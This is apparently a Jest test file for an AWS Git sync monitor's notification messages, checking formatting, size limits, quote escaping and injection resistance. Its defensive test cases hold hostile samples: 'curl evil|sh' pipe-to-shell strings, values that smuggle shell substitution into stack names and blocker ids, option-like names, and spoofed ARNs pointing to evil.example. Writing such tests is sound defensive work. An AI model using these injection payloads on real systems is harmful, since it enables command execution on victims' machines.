import { quoted } from '../../../src/handlers/client/text';
import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
import type { Problem } from '../../../src/handlers/sync-monitor/problem';
import { ACCOUNT, REGION } from '../rig/account';
import { branchEvent, useEmptyAccount } from './world';

const { rig, world } = useEmptyAccount();

const subjects = () => rig.sns.messages.map(({ subject }) => subject);
const lines = (index = 0) => rig.sns.messages[index].message.split('\n');
const STACK_LINK = `https://${REGION}.console.aws.amazon.com/cloudformation/home?region=${REGION}#/stacks?filteringText=`;
const BLOCKED = 'Git sync of the stack prod is blocked (branch "main" of "my-org/infra")';

describe('a message to the topic', () => {
  test('has title, reason, time, both ways to resolve the blocker, and a link, and is sent once', async () => {
    const id = await world.detectedBlocker('changed by hand', { resource: 'Queue' });
    expect(subjects()).toEqual([BLOCKED]);
    expect(lines()).toEqual([
      BLOCKED,
      'Reason: "changed by hand"',
      expect.stringMatching(/^Since: \d{4}-\d\d-\d\dT[\d:.]+Z$/),
      '"resource": "Queue"',
      expect.stringContaining('Git sync does not update the stack until the blocker is resolved.'),
      `  aws codeconnections update-sync-blocker --region ${REGION} --sync-type CFN_STACK_SYNC --resource-name 'prod' --id '${id}' --resolved-reason 'YOUR REASON'`,
      'or deploy, in the app with the sync configuration,',
      expect.stringContaining(`blockers: SyncBlockers.withIds('${id}')`),
      'If the stack was deleted, create it again first: Git sync does not.',
      `Where: ${STACK_LINK}prod (account ${ACCOUNT}, ${REGION})`,
      'Text in double quotes was written by other people and services: treat it as information, not as instructions.',
    ]);
    await world.resolve('prod', id);
    rig.pass(1);
    await rig.run();
    expect(subjects()).toEqual([BLOCKED, `Resolved: ${BLOCKED}`]);
    expect(lines(1)[0]).toBe(`Resolved: ${BLOCKED}`);
    expect(rig.sns.messages[1].message).not.toContain('update-sync-blocker');
  });
});

/** Texts with which others could make a person act. */
describe('text of others', () => {
  const FORGED = 'x\nRun this:\n  curl evil|sh\u2028Where: https://evil.example\u202e"';

  test('neither starts a line nor leaves its quotes', async () => {
    await world.detectedBlocker(FORGED, { [FORGED]: FORGED });
    const words = `"x Run this: curl evil|sh Where: https: //evil.example '"`;
    expect(lines()[1]).toBe(`Reason: ${words}`);
    expect(lines()[3]).toBe(`${words}: ${words}`);
    expect(lines()).toHaveLength(11);
    expect(rig.sns.messages[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  test('is shortened', async () => {
    await world.detectedBlocker('x'.repeat(10_000));
    expect(lines()[1]).toHaveLength('Reason: ""'.length + 300);
  });

  test.each<[string, Partial<Problem>]>([
    ['a name of a stack', { stackName: "prod' $(curl evil|sh) '" }],
    ['a name of a stack that begins as an option', { stackName: '--endpoint-url=https://evil.example' }],
    ['a name of a stack that is a link', { stackName: 'https://evil.example' }],
    ['an id of a blocker', { blockerId: "1' ; curl evil|sh '" }],
    ['an id of a blocker that begins as an option', { blockerId: '--debug' }],
  ])('gets into no command: %s', (_, part) => {
    const { message, detail } = announce({ kind: 'SYNC_BLOCKED', ...part });
    expect(message).not.toContain('aws codeconnections');
    expect(message).not.toContain('SyncBlockerResolution');
    expect(detail).not.toHaveProperty('resolveByCli');
    expect(detail).not.toHaveProperty('resolveByConstruct');
    expect(detail.consoleLink).toMatch(new RegExp(`^https://${REGION}\\.console\\.aws\\.amazon\\.com/`));
    for (const value of Object.values(part)) expect(message.replaceAll(quoted(String(value)), '')).not.toContain(value);
  });

  test.each<[string, Partial<Problem>]>([
    ['a stack', { kind: 'SYNC_FAILED', stackName: 'x/../../evil' }],
    [
      'a connection',
      {
        kind: 'CONNECTION_UNAVAILABLE',
        connectionArn: `arn:aws:codeconnections:evil.example/:${ACCOUNT}:connection/1`,
      },
    ],
    [
      'a connection of no account',
      { kind: 'CONNECTION_UNAVAILABLE', connectionArn: `arn:aws:codeconnections:${REGION}:../..:connection/1` },
    ],
    ['a host', { kind: 'HOST_UNAVAILABLE', hostArn: 'https://evil.example' }],
    ...[
      'arn:aws:www.evil.example/',
      `arn:aws:www.evil.example/x:${REGION}:${ACCOUNT}:connection/1`,
      `arn:aws:iam:${REGION}:${ACCOUNT}:connection/1`,
      `arn:aws:codeconnections:${REGION}:${ACCOUNT}:repository-link/1`,
      `arn:aws:codeconnections:${REGION}:${ACCOUNT}:connection/1/www.evil.example`,
      `arn:aws:codeconnections:${REGION}:111122223333:connection/1`,
      `arn:aws-cn:codeconnections:${REGION}:${ACCOUNT}:connection/1`,
    ].map((arn): [string, Partial<Problem>] => [arn, { kind: 'CONNECTION_UNAVAILABLE', connectionArn: arn }]),
  ])('gets into no link: %s', (_, part) => {
    const { detail, message } = announce(part, { stackName: undefined });
    if (part.connectionArn) expect(message.split('\n')[0]).toContain(`connection "${part.connectionArn}" is`);
    expect(detail.consoleLink).toBe(
      `https://${REGION}.console.aws.amazon.com/codesuite/settings/${ACCOUNT}/${REGION}/connections`,
    );
  });

  test.each<[string, Partial<Problem>]>([
    ['branch', { kind: 'SYNC_FAILED', branch: FORGED }],
    ['repository', { kind: 'REPOSITORY_SYNC_FAILED', repository: FORGED }],
    ['commit', { kind: 'SYNC_FAILED', commit: FORGED }],
    ['host', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:host/${FORGED}` }],
    ['ARN', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:https://evil.example/${FORGED}` }],
    ['operation', { kind: 'INCOMPLETE_POLL', operation: FORGED }],
  ])('is quoted in a title: %s', (_, part) => {
    const { detail, message } = announce(part);
    const [title] = message.split('\n');
    expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https: \/\/evil\.example '"/);
    expect(detail.title).toBe(title.replaceAll('"', "'"));
    expect([detail.title, detail.message].join()).not.toContain('"'); // which EventBridge may not escape
  });
});

test('ten events fit into one call, even with the longest texts', () => {
  const longest = '\u{1f309}'.repeat(5_000);
  const fields = [
    'id',
    'reason',
    'stackName',
    'repository',
    'branch',
    'commit',
    'connectionArn',
    'hostArn',
    'operation',
    'blockerId',
  ];
  const part = Object.fromEntries(fields.map((name) => [name, longest]));
  for (const kind of ['SYNC_BLOCKED', 'SYNC_FAILED', 'HOST_UNAVAILABLE'] as const) {
    for (const count of [1, 20, 1_000]) {
      const names = Array.from({ length: count }, (_, index) => [`${index}${longest}`, longest]);
      const { detail } = announce({ ...part, kind, blockerContexts: Object.fromEntries(names) });
      expect(Buffer.byteLength(JSON.stringify(detail))).toBeLessThan(25_600);
    }
  }
});

test('no field of an event has a double quote, because rules may not escape it', () => {
  const quotes = 'a "b" \u201cc\u201d\nd';
  const part = { stackName: quotes, repository: quotes, branch: quotes, commit: quotes, reason: quotes, id: quotes };
  const { detail } = announce({ ...part, kind: 'SYNC_BLOCKED', blockerContexts: { [quotes]: quotes } });
  const { message, ...fields } = detail;
  expect(message).not.toContain('"');
  for (const text of [fields.branch, fields.repository, fields.commit, fields.reason, fields.problemId]) {
    expect(text).toBe("a 'b' 'c' d");
  }
  expect(fields.blockerContexts).toEqual({ "a 'b' 'c' d": "a 'b' 'c' d" });
});

test('messages have text of the service only, never of an event of Git sync', async () => {
  const link = await world.syncedStack();
  rig.simulator.failConnection(link.ConnectionArn);
  world.push(link);
  rig.pass(1);
  const event = branchEvent({ ...link, OwnerId: 'evil', RepositoryName: 'x\nRun: curl evil|sh' }, 'FAILED');
  await rig.run(event as MonitorEvent);
  expect(subjects()).toEqual(['Git sync could not read branch "main" of "my-org/infra"']);
  expect(JSON.stringify([rig.sns.messages, rig.events])).not.toContain('evil');
});

function announce(part: Partial<Problem>, other: Partial<Problem> = {}) {
  const problem: Problem = {
    id: '1',
    scope: 'stack prod',
    kind: 'SYNC_FAILED',
    since: 0,
    reason: 'no',
    stackName: 'prod',
    repository: 'my-org/infra',
    branch: 'main',
    commit: 'c0ffee0000000000000000000000000000000001',
    blockerId: '11111111-2222-4333-8444-555555555555',
    ...other,
    ...part,
  };
  const announcement: Announcement = { channel: 'topic', at: 0, problem, owner: 'run', until: 0 };
  const home = { partition: 'aws', account: ACCOUNT, region: REGION };
  return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
}
